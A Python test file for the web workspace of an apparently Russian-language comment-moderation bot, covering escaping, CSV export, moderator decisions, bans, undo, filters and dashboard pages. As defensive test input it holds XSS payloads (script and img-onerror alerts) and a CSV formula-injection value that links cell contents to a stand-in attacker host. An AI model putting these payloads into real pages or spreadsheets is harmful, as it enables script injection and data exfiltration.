"""The workspace's pages and actions: hostile text shown escaped everywhere, the CSV export
neutralised, decisions (single, bulk, by fetch), labels, journal filters, the attention page, and
two moderators on one held comment."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import time

from bot.adapters import build_platforms
from bot.types import Action
from bot.web.server import WebServer
from moderation.verdict import Evidence
from tests.webkit import HOSTILE, XSS_IMG, XSS_SCRIPT, Client, WebEnv, seed, web

__all__ = ["web"]

RAW = (XSS_SCRIPT, "<img src=x onerror", "onerror=alert(1)>")


def _no_raw(text: str, where: str) -> None:
    for needle in RAW:
        assert needle not in text, f"{where}: raw {needle!r}"


async def test_hostile_text_is_escaped_on_every_page(web: WebEnv) -> None:
    s, svc = web.store, web.service
    held = seed(
        s,
        svc,
        text=HOSTILE,
        author=XSS_IMG,
        evidence=[Evidence(len(HOSTILE) - 5, len(HOSTILE), "дебил", "insult", matched=XSS_SCRIPT)],
    )
    deleted = seed(s, svc, text="удалённый " + HOSTILE, action="delete", labels=["insult"], author="42")
    svc.ban_author(
        "vk",
        XSS_IMG,
        community_id=1,
        days=3,
        by="admin",
        reason=XSS_SCRIPT,
        category="insult",
        now=time.time(),
    )
    # a failed and a manual action carrying the text to the attention page
    for a in s.actions_for_decision(s.latest_verdict_decision(deleted.key)["id"]):
        s.mark_action_failed(a.id, XSS_SCRIPT)
    manual = Action(
        decision_id=s.latest_verdict_decision(deleted.key)["id"],
        kind="restore",
        platform="vk",
        community_id=1,
        method="manual",
        params={},
        state="manual",
        key="manual-test",
    )
    s.enqueue_action(manual)
    c = await web.client("admin")
    from urllib.parse import quote

    pages = [
        "/queue",
        "/journal",
        "/journal?action=all",
        f"/comment/{held.id}",
        f"/comment/{deleted.id}",
        f"/author?platform=vk&id={quote(XSS_IMG)}",
        "/author?platform=vk&id=42",
        "/blacklist",
        "/blacklist?all=1",
        "/attention",
        "/dashboard",
        "/model",
        f"/journal?q={quote(XSS_SCRIPT)}",
        f"/journal?author={quote(XSS_IMG)}&who={quote(XSS_SCRIPT)}",
    ]
    for path in pages:
        status, text, _ = await c.get(path)
        assert status == 200, path
        _no_raw(text, path)
    for path in ("/queue", f"/comment/{held.id}", "/journal", "/attention"):
        text = (await c.get(path))[1]
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text, path
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in (await c.get("/blacklist"))[1]
    # evidence is highlighted, still escaped
    text = (await c.get(f"/comment/{held.id}"))[1]
    assert '<mark class="ev ev-insult" title="оскорбление">дебил</mark>' in text
    # a flash message that repeats what was typed is escaped too
    status, text, _ = await c.post("/bans/add", {"author_id": "", "community": XSS_SCRIPT})
    _no_raw(text, "flash")


async def test_csv_export_neutralises_formulas_and_keeps_russian(web: WebEnv) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Жалоба")'
    seed(web.store, web.service, text=formula, action="delete", labels=["spam"])
    seed(web.store, web.service, text="+7 999 000-00-00 звоните", action="review")
    seed(web.store, web.service, text="-1+1 @sum", action="allow")
    c = await web.client("admin")
    status, text, r = await c.get("/journal.csv?action=all")
    assert status == 200 and r.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in r.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    texts = {row["текст"] for row in rows}
    assert "'" + formula in texts and "'+7 999 000-00-00 звоните" in texts and "'-1+1 @sum" in texts
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    assert {row["решение"] for row in rows} == {"delete", "review", "allow"}


async def test_keep_delete_and_ban_with_labels_and_ladder_preset(web: WebEnv) -> None:
    s, svc = web.store, web.service
    a = seed(s, svc, text="первый", author="9")
    b = seed(s, svc, text="второй", author="9")
    d = seed(s, svc, text="третий", author="10")
    c = await web.client("anna")
    status, text, _ = await c.get("/queue")
    assert 'name="ban_days" min="0" max="3650" value="1"' in text  # first step of the default ladder
    status, text, _ = await c.post("/decide", {"id": a.id, "action": "keep", "reason": "критика"})
    assert "оставлен" in text
    status, text, _ = await c.post(
        "/decide",
        {"id": b.id, "action": "delete_and_ban", "category": "insult", "ban_days": "7", "reason": "грубость"},
    )
    assert "заблокирован на 7 дн." in text
    status, text, _ = await c.post(
        "/decide",
        {"id": d.id, "action": "delete", "category": "obscene"},
        headers={"X-Requested-With": "fetch"},
    )
    assert status == 200 and '"ok": true' in text
    labels = {(lab["comment_key"], tuple(lab["labels"]), lab["by"]) for lab in s.labels()}
    assert labels == {(a.key, (), "anna"), (b.key, ("insult",), "anna"), (d.key, ("obscene",), "anna")}
    ban = s.active_ban("vk", 1, "9")
    assert ban is not None and ban.decided_by == "anna" and ban.category == "insult"
    assert [x.kind for x in s.actions_for_decision(s.latest_verdict_decision(b.key)["id"])] == [
        "delete",
        "ban",
    ]
    # the queue is empty now and the decisions are in the journal with who decided
    assert "Очередь пуста" in (await c.get("/queue"))[1]
    text = (await c.get("/journal?who=anna"))[1]
    assert text.count('<td data-label="Кто">anna</td>') == 3


async def test_bulk_decision_uses_each_authors_ladder(web: WebEnv) -> None:
    s, svc = web.store, web.service
    # author 11 already has two violations (on the other page, where the second one banned them): the
    # ladder's third step (forever) applies to them here
    for _ in range(2):
        seed(s, svc, group=2, text="нарушение", author="11", action="delete", labels=["insult"])
    rows = [seed(s, svc, text=f"спорный {i}", author=str(11 + i)) for i in range(3)]
    c = await web.client("admin")
    status, text, _ = await c.post(
        "/decide", [("id", r.id) for r in rows] + [("action", "delete_and_ban"), ("reason", "пачкой")]
    )
    assert "Готово: 3 из 3" in text, re.findall(r"flash [^>]*>([^<]*)", text)
    assert s.active_ban("vk", 1, "11").until is None  # forever
    assert s.active_ban("vk", 1, "12").until is not None


async def test_undo_from_journal_restores_lifts_and_relabels(web: WebEnv) -> None:
    s, svc = web.store, web.service
    row = seed(s, svc, text="жёсткая критика", author="33", action="delete_and_ban", labels=["insult"])
    auto = s.latest_verdict_decision(row.key)
    assert auto["action"] == "delete_and_ban" and s.active_ban("vk", 1, "33") is not None
    c = await web.client("anna")
    text = (await c.get("/journal"))[1]
    assert f'action="/decisions/{auto["id"]}/undo"' in text
    status, text, _ = await c.post(
        f"/decisions/{auto['id']}/undo", {"reason": "это критика", "next": "/journal"}
    )
    assert "отменено" in text
    assert s.latest_verdict_decision(row.key)["action"] == "restore"
    assert s.active_ban("vk", 1, "33") is None
    undo = s.undo_of(auto["id"])
    assert undo["decided_by"] == "anna" and "это критика" in undo["reason"]
    assert [lab["labels"] for lab in s.labels() if lab["comment_key"] == row.key] == [[]]
    # twice: a clear message, nothing new
    status, text, _ = await c.post(f"/decisions/{auto['id']}/undo", {})
    assert "уже отменено" in text
    # the comment page says what happened
    text = (await c.get(f"/comment/{row.id}"))[1]
    assert "Отменено решением" in text


async def test_journal_filters(web: WebEnv) -> None:
    s, svc = web.store, web.service
    seed(s, svc, text="Ремонт ДОРОГИ на Кирова", author="1", action="allow")
    seed(s, svc, text="купите крипту", author="2", action="delete", labels=["spam"])
    seed(s, svc, text="больница грубит", group=2, author="3", action="review")
    c = await web.client("admin")
    t = (await c.get("/journal"))[1]
    assert "Ремонт" not in t and "крипту" in t  # the judge's allows are hidden by default
    t = (await c.get("/journal?action=all&q=дороги"))[1]  # Russian, case-insensitive
    assert "Ремонт ДОРОГИ" in t and "крипту" not in t
    t = (await c.get("/journal?action=delete"))[1]
    assert "крипту" in t and "больница" not in t
    t = (await c.get("/journal?community=vk:2"))[1]
    assert "больница" in t and "крипту" not in t
    t = (await c.get("/journal?author=2"))[1]
    assert "крипту" in t and "больница" not in t
    t = (await c.get("/journal?category=spam"))[1]
    assert "крипту" in t and "больница" not in t
    t = (await c.get("/journal?who=moderators"))[1]
    assert "Ничего не найдено" in t
    t = (await c.get("/journal?from=2000-01-01&to=2000-01-02"))[1]
    assert "Ничего не найдено" in t


async def test_attention_retry_dismiss_and_manual_done_are_audited(web: WebEnv) -> None:
    s, svc = web.store, web.service
    row = seed(s, svc, text="мат", action="delete_and_ban", labels=["obscene"], author="55")
    d = s.latest_verdict_decision(row.key)
    delete, ban = s.actions_for_decision(d["id"])
    s.mark_action_failed(delete.id, "VK error 15 in wall.deleteComment: Access denied")
    s.mark_action_failed(ban.id, "VK error 15 in groups.ban: Access denied")
    manual = Action(
        decision_id=d["id"],
        kind="delete",
        platform="vk",
        community_id=1,
        method="manual",
        params={},
        state="manual",
        key="manual-delete-test",
    )
    s.enqueue_action(manual)
    c = await web.client("anna")
    t = (await c.get("/attention"))[1]
    assert "Access denied" in t and "Удалено вручную" in t and "Платформа не удалила комментарий" in t
    assert '<span class="badge warn">3</span>' in t
    status, t, _ = await c.post(f"/actions/{delete.id}/retry")
    assert "снова в очереди" in t and s.get_action(delete.id).state == "pending"
    status, t, _ = await c.post(f"/actions/{ban.id}/dismiss")
    assert "не будет повторяться" in t and s.get_action(ban.id).state == "cancelled"
    status, t, _ = await c.post(f"/actions/{manual.id}/done")
    assert "выполненным вручную" in t and s.get_action(manual.id).state == "done"
    status, t, _ = await c.post(f"/actions/{manual.id}/done")
    assert "не ждёт ручного выполнения" in t
    events = [(a["actor"], a["event"]) for a in s.audit_log()]
    assert ("anna", "retry") in events and ("anna", "dismiss") in events and ("anna", "manual_done") in events
    t = (await c.get("/journal?view=audit"))[1]
    assert "повтор действия" in t and "сделано вручную" in t
    # another organisation's moderator cannot touch these
    b = await web.client("boris")
    s.mark_action_failed(delete.id, "again")
    status, t, _ = await b.post(f"/actions/{delete.id}/retry")
    assert "не относится к вашей организации" in t and s.get_action(delete.id).state == "failed"


async def test_blacklist_add_and_lift_by_hand(web: WebEnv) -> None:
    c = await web.client("anna")
    status, t, _ = await c.post(
        "/bans/add",
        {
            "author_id": "4242",
            "community": "vk:1",
            "days": "30",
            "reason": "спам в личке",
            "category": "spam",
            "on_platform": "1",
        },
    )
    assert "в чёрном списке" in t
    ban = web.store.active_ban("vk", 1, "4242")
    assert ban is not None and ban.decided_by == "anna" and ban.reason == "спам в личке"
    assert [a.kind for a in web.store.actions_for_decision(ban.decision_id)] == ["ban"]
    t = (await c.get("/blacklist"))[1]
    assert "4242" in t and "спам в личке" in t
    status, t, _ = await c.post(f"/bans/{ban.id}/lift", {"reason": "ошибка"})
    assert "снято блокировок 1" in t
    assert web.store.active_ban("vk", 1, "4242") is None
    kinds = [
        a.kind
        for d in web.store.journal(author=("vk", "4242"))
        for a in web.store.actions_for_decision(d["id"])
    ]
    assert "unban" in kinds or "ban" in kinds  # the pending ban was cancelled or an unban queued
    t = (await c.get("/blacklist?all=1"))[1]
    assert "4242" in t
    # an id VK cannot take is a clear message, not an error page
    status, t, _ = await c.post("/bans/add", {"author_id": "Иван", "community": "vk:1", "on_platform": "1"})
    assert status == 200 and "VK не примет" in t


async def test_two_moderators_on_one_held_comment_get_one_decision(web: WebEnv) -> None:
    row = seed(web.store, web.service, text="спорный комментарий")
    # a second workspace process on the same database (two `modbot web`, or web + run)
    other = WebServer(web.config, build_platforms(web.config), host="127.0.0.1", port=0)
    await other.start()
    try:
        a = await web.client("anna")
        b = Client(other.url)
        web.clients.append(b)
        await b.login("admin")
        results = await asyncio.gather(
            a.post("/decide", {"id": row.id, "action": "delete", "category": "insult"}),
            b.post("/decide", {"id": row.id, "action": "keep"}),
        )
        texts = [t for _, t, _ in results]
        decided = [d for d in web.store.decisions_of_comment(row.key) if d["decided_by"] != "auto"]
        assert len(decided) == 1
        loser = texts[1] if decided[0]["decided_by"] == "anna" else texts[0]
        assert "уже не ждёт решения" in loser
        assert len(web.store.labels()) == 1
    finally:
        await other.stop()


async def test_attention_shows_the_daemons_heartbeat_paused_tokens_and_problems(web: WebEnv) -> None:
    import json

    from bot.store import HEARTBEAT_CURSOR

    c = await web.client("anna")
    assert "ни разу не запускалась" in (await c.get("/attention"))[1]
    beat = {
        "status": "degraded",
        "at": time.time(),
        "model_version": "m-1",
        "problems": ["vk 1: long poll перезапускается"],
        "paused_tokens": {"user token vk1.a.…123": time.time() + 60},
        "broken_tokens": [{"token": "user token vk1.a.…999", "community": 1, "reason": "VK error 5"}],
    }
    web.store.set_cursor(HEARTBEAT_CURSOR, json.dumps(beat, ensure_ascii=False))
    t = (await c.get("/attention"))[1]
    assert "long poll перезапускается" in t and "vk1.a.…123" in t and "VK error 5" in t and "m-1" in t
    beat["at"] = time.time() - 600
    web.store.set_cursor(HEARTBEAT_CURSOR, json.dumps(beat, ensure_ascii=False))
    assert "служба не работает" in (await c.get("/attention"))[1]


async def test_dashboard_figures_match_the_journal(web: WebEnv) -> None:
    s, svc = web.store, web.service
    now = time.time()
    day = 86400
    seed(s, svc, text="a", action="allow", now=now - 2 * day)
    seed(s, svc, text="b", action="delete", labels=["spam"], now=now - 2 * day, author="71")
    seed(s, svc, text="c", action="review", now=now - day)
    undone = seed(s, svc, text="d", action="delete", labels=["insult"], now=now - day, author="72")
    seed(s, svc, group=2, text="e", action="delete", labels=["insult"], now=now, author="73")
    svc.undo(s.latest_verdict_decision(undone.key)["id"], by="anna", now=now)
    data = s.dashboard(now - 7 * day, day_offset=3 * 3600, extra_communities=[("vk", 1), ("vk", 2)])
    assert sum(r["n"] for r in data["comments"]) == 5
    assert sum(r["n"] for r in data["comments"] if r["community_id"] == 2) == 1
    deletions = [r for r in data["decisions"] if r["action"] == "delete"]
    assert sum(r["n"] for r in deletions) == 3 and {r["category"] for r in deletions} == {"spam", "insult"}
    assert sum(r["n"] for r in data["decisions"] if r["action"] == "review") == 1
    assert sum(r["n"] for r in data["undone"]) == 1
    assert {r["category"]: (r["n"], r["undone"]) for r in data["auto_undone"]} == {
        "spam": (1, 0),
        "insult": (2, 1),
    }
    c = await web.client("anna")  # sees community 1 only
    t = (await c.get("/dashboard?days=7"))[1]
    assert "автоматических удалений отменено модераторами (1 из 2)" in t
    assert '<td data-label="Комментарии">4</td>' in t and "Больница" not in t


async def test_model_page_shows_registry_versions_last_retrain_and_undone_share(web: WebEnv) -> None:
    """After a retrain: the registry's versions (current marked, refused ones too), the last comparison
    table with the decision, and per version the share of automatic deletions moderators undid."""
    import json

    from bot.model_registry import ModelRegistry

    reg = ModelRegistry(web.config.database.parent / "models")
    for name, status in (("test-model", "base"), ("local-20261201-100000", "refused")):
        reg.add_version(
            name,
            lambda d: (d / "model.pkl").write_bytes(b"x"),
            {
                "kind": "base" if status == "base" else "local",
                "status": status,
                "created": "2026-12-01T10:00:00Z",
                "by": "admin",
                "headline": {"held_out_f1": 0.7, "held_out_caught": 0.65, "regression_clean_deleted": 0},
            },
        )
    reg.switch("test-model")
    reg.record(
        "refuse",
        version="local-20261201-100000",
        previous="test-model",
        by="admin",
        worse=["F1 на отложенных метках модераторов: 0.724 → 0.712"],
    )
    figs = {
        "held_out": {"n": 119, "violations": 31, "caught": 0.677, "f1": 0.724, "precision": 0.778},
        "regression": {"clean": 357, "violations": 128, "clean_deleted": 0, "violations_removed": 0.953},
    }
    cand = json.loads(json.dumps(figs))
    cand["held_out"]["f1"] = 0.712
    reg.write_last_retrain(
        {
            "at": "2026-12-01T10:00:00Z",
            "by": "admin",
            "outcome": "refused",
            "current": "test-model",
            "candidate": "local-20261201-100000",
            "worse": ["F1 на отложенных метках модераторов: 0.724 → 0.712"],
            "figures": {"current": figs, "candidate": cand},
        }
    )
    row = seed(web.store, web.service, text="ты дебил", action="delete", labels=["insult"])
    seed(web.store, web.service, text="сам дебил", action="delete", labels=["insult"])
    decision = web.store.latest_verdict_decision(row.key)
    web.service.undo(decision["id"], by="anna", now=time.time())

    c = await web.client("admin")
    status, text, _ = await c.get("/model")
    assert status == 200
    assert "Версии в реестре моделей" in text and "local-20261201-100000" in text and "текущая" in text
    assert "отклонена" in text and "Последнее дообучение" in text and "отклонён" in text
    assert "пойманные нарушения (полнота)" in text and "0.724" in text and "0.712" in text
    assert "1 из 2 (50.0 %)" in text  # test-model's automatic deletions: one of two undone
